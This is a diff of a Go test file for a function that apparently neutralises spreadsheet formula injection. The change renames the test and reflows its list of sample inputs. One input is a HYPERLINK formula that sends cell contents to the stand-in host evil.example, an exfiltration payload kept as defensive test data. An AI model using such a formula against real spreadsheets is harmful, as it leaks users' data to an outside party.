@@ -8,12 +8,13 @@ import (
 	"tminus/internal/tabular"
 )
 
-// A spreadsheet set to a language that writes 1,5 separates by semicolons, and takes
-// no notice of quotes within a line.
-func TestATextOfStrangersIsAFormulaInNoSpreadsheet(t *testing.T) {
+// A spreadsheet in a language with decimal commas separates cells by semicolons and ignores quotes
+// within a line.
+func TestInertGuardsInnerFormulas(t *testing.T) {
 	t.Parallel()
 	var rows [][]string
-	for i, text := range []string{`No mail;=HYPERLINK("http://evil.example/?"&A1,"x");z`, "No bell\n=1+1", "a\r\n\t -2", "x;  @y", "tab\t=1", "full;＝1", "=2;=3"} {
+	for i, text := range []string{`No mail;=HYPERLINK("http://evil.example/?"&A1,"x");z`, "No bell\n=1+1", "a\r\n\t -2", "x;  @y",
+		"tab\t=1", "full;＝1", "=2;=3"} {
 		rows = append(rows, []string{strconv.Itoa(i), tabular.Inert(text)})
 	}
 	var b strings.Builder
